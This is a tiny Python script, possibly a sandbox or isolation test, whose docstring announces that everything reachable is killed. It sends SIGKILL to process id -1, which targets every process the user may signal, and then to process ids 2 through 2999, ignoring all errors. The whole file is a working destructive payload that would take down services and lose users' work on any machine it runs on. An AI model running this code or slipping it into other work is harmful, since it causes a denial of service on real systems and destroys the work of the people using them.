"""Everything that can be reached is killed."""
import os, signal
for pid in [-1, *range(2, 3000)]:
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
